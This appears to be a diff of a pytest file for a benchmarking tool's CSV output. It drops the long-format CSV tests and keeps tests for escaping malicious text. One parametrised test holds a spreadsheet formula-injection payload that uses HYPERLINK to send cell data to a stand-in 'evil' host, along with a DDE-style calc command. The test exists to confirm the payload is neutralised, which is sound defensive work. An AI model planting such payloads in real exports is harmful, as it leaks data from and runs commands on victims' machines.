@@ -1,4 +1,4 @@
-"""CSV, and CSV in long format: a field per value, in SI units."""
+"""CSV: a field per value, in SI units."""
 
 from __future__ import annotations
 
@@ -9,9 +9,8 @@ import pytest
 
 from polybench.render import csv as csv_format
 from polybench.render import render
-from polybench.render.study import STEP_TIMES
 from polybench.render.table import Records, one_line
-from polybench.schema.metrics import METRICS, Metric
+from polybench.schema.metrics import Metric
 from tests.factories import measured, study, typical_study, unmeasured
 from tests.render.malicious_inputs import MALICIOUS_TEXT, malicious_study
 
@@ -77,54 +76,19 @@ def test_header_does_not_depend_on_results(columns: list[Metric]) -> None:
     assert "peak_memory_low" not in header
 
 
-def parse(text: str) -> list[dict[str, str]]:
-    return list(csv.DictReader(io.StringIO(text, newline="")))
-
-
-def test_each_step_time_has_a_line_with_its_indices() -> None:
-    configuration = measured("torch+compile@old/cpu", 0.01)
-    found = [
-        one for one in parse(render(study(configuration), "csv-long", columns=[])) if one["quantity"] == STEP_TIMES
-    ]
-    assert len(found) == sum(len(rounds) for process in configuration.nested_step_times for rounds in process)
-    for one in found:
-        process, number, index = (int(one[name]) for name in ("process", "round", "index"))
-        assert float(one["value"]) == configuration.nested_step_times[process][number][index]
-    assert {(one["engine"], one["variant"], one["environment"], one["unit"]) for one in found} == {
-        ("torch", "compile", "old", "s")
-    }
-
-
-def test_metrics_have_units_and_intervals(columns: list[Metric]) -> None:
-    configuration = measured("tf/cpu", 0.01)
-    found = parse(
-        render(study(configuration, unmeasured("torch/cpu", "unavailable", "no")), "csv-long", columns=columns)
-    )
-    by_name = {one["quantity"]: one for one in found if one["configuration"] == "tf/cpu"}
-    speedup = by_name["speedup"]
-    interval = METRICS["speedup"].interval(configuration)
-    assert interval is not None
-    assert (float(speedup["low"]), float(speedup["high"])) == pytest.approx(interval)
-    assert by_name["peak_memory"]["unit"] == "B"
-    assert [(one["quantity"], one["value"]) for one in found if one["configuration"] == "torch/cpu"] == [
-        ("status", "unavailable"), ("ranked", "false"), ("parity", "skipped"),
-    ]  # fmt: skip
-
-
 def test_malicious_texts_stay_in_their_fields() -> None:
-    found = parse(render(malicious_study(), "csv-long", columns=[]))
+    found = list(csv.DictReader(io.StringIO(render(malicious_study(), "csv", columns=[]), newline="")))
     assert {one["study"] for one in found} == {one_line(MALICIOUS_TEXT)}
-    assert {len(one) for one in found} == {15}
+    assert {len(one) for one in found} == {17}
     assert None not in {key for one in found for key in one}
 
 
 @pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t=", "\r=", " +", "＝"])  # noqa: RUF001 - full width
-@pytest.mark.parametrize("format", ["csv", "csv-long"])
-def test_no_text_is_a_formula_for_a_spreadsheet(columns: list[Metric], start: str, format: str) -> None:
+def test_no_text_is_a_formula_for_a_spreadsheet(columns: list[Metric], start: str) -> None:
     attack = start + "HYPERLINK(\"http://evil\"&A1)|' /C calc'!A0"
     document = study(unmeasured("tf/cpu", "failed", attack, attack))
     document.id = attack
-    cells = [cell for row in csv.reader(io.StringIO(render(document, format, columns=columns))) for cell in row]
+    cells = [cell for row in csv.reader(io.StringIO(render(document, "csv", columns=columns))) for cell in row]
     assert [cell for cell in cells if "HYPERLINK" in cell]
     assert not [cell for cell in cells if cell.strip().startswith(tuple("=+-@＝"))]  # noqa: RUF001
 
